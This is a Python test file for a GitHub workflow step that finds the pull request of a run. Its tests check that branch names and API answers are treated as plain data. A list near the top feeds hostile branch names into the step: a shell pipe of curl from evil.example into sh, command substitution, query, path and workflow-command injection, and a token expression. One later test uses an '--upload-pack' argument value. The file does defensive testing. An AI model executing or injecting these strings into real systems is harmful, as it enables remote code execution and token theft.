"""The pull request of a run is named by GitHub, and by nothing that the pull request contains."""

from __future__ import annotations

import pytest

from tests.unit.github.conftest import Step, workflow_run
from tests.unit.github.server import BASE, COMMIT, GitHub, pull_request

HOSTILE = [
    pytest.param("a; curl evil.example | sh", id="shell"),
    pytest.param("$(touch pwned)`touch pwned`", id="command substitution"),
    pytest.param("x&state=closed&head=other", id="query"),
    pytest.param("../../../other/repo/pulls", id="path"),
    pytest.param("x\n::set-output name=number::1\nnumber=1", id="workflow command"),
    pytest.param("${{ github.token }}", id="expression"),
]


def test_finds_the_pull_request_of_a_fork(step: Step, github: GitHub) -> None:
    assert step.run("find") == 0
    assert step.outputs == {"number": "7", "base": BASE, "head": COMMIT}
    assert github.queries[0] == {
        "head": ["mallory:change"],
        "state": ["open"],
        "page": ["1"],
        "per_page": ["100"],
    }


def test_takes_the_pull_request_of_its_own_event(step: Step, github: GitHub) -> None:
    step.event_name, step.event = "pull_request", {"pull_request": pull_request(8)}
    assert step.run("find") == 0
    assert step.outputs["number"] == "8"
    assert github.asked == []


@pytest.mark.parametrize("branch", HOSTILE)
def test_a_branch_name_is_only_a_value(step: Step, github: GitHub, branch: str) -> None:
    step.event = workflow_run(head_branch=branch)
    assert step.run("find") == 0
    assert github.queries[0]["head"] == [f"mallory:{branch}"]
    assert github.asked == ["GET pulls"]
    assert step.outputs["number"] == "7"


@pytest.mark.parametrize(
    "found",
    [
        pytest.param([], id="none is open"),
        pytest.param([pull_request(head="d" * 40)], id="a newer commit was pushed"),
        pytest.param([pull_request(repository=98)], id="another repository of that owner"),
    ],
)
def test_finds_none(step: Step, github: GitHub, found: list[dict[str, object]]) -> None:
    github.pull_requests = found
    assert step.run("find") == 0
    assert step.outputs == {}
    assert step.log == "::notice::no open pull request has this commit: there is nothing to review\n"


@pytest.mark.parametrize(
    "run",
    [
        pytest.param(workflow_run(event="push"), id="run of a push"),
        pytest.param(workflow_run(head_repository=None), id="the fork is deleted"),
        pytest.param({}, id="no run"),
    ],
)
def test_asks_nothing_where_there_can_be_none(step: Step, github: GitHub, run: dict[str, object]) -> None:
    step.event = run
    assert step.run("find") == 0
    assert (step.outputs, github.asked) == ({}, [])


def test_refuses_to_choose_between_two_bases(step: Step, github: GitHub) -> None:
    github.pull_requests = [pull_request(7), pull_request(8, base="e" * 40)]
    assert step.run("find") == 2
    assert step.log == "::error::several open pull requests have this commit; found 7, 8; accepted: one\n"


def test_finds_it_on_a_later_page(step: Step, github: GitHub) -> None:
    github.pull_requests = [*(pull_request(each, head="d" * 40) for each in range(100, 300)), pull_request()]
    assert step.run("find") == 0
    assert step.outputs["number"] == "7"
    assert github.asked == ["GET pulls"] * 3


def test_a_commit_that_is_none_never_becomes_an_output(step: Step, github: GitHub) -> None:
    github.pull_requests = [pull_request(base="--upload-pack=evil")]
    assert step.run("find") == 2
    assert step.outputs == {}
    assert step.log == "::error::the pull request names no commit\n"


def test_an_answer_of_another_form_is_one_sentence(step: Step, github: GitHub) -> None:
    github.pull_requests = [{"number": 7}]
    assert step.run("find") == 2
    assert (
        step.log == "::error::GitHub's answer is not in the form that was expected; found KeyError('head')\n"
    )


def test_without_a_token_nothing_is_asked(step: Step, github: GitHub) -> None:
    step.monkeypatch.setenv("GITHUB_TOKEN", "")
    environment = step.environment()
    step.environment = lambda **_: environment | {"GITHUB_TOKEN": ""}  # type: ignore[method-assign]
    assert step.run("find") == 2
    assert (
        step.log == "::error::the variable `GITHUB_TOKEN` is not set; accepted: a step of a GitHub workflow\n"
    )
    assert github.asked == []


def test_an_unknown_mode_is_refused(step: Step) -> None:
    assert step.run("deploy") == 2
    assert step.log.startswith("::error::unknown mode `deploy`; accepted: `install`, `find`, ")
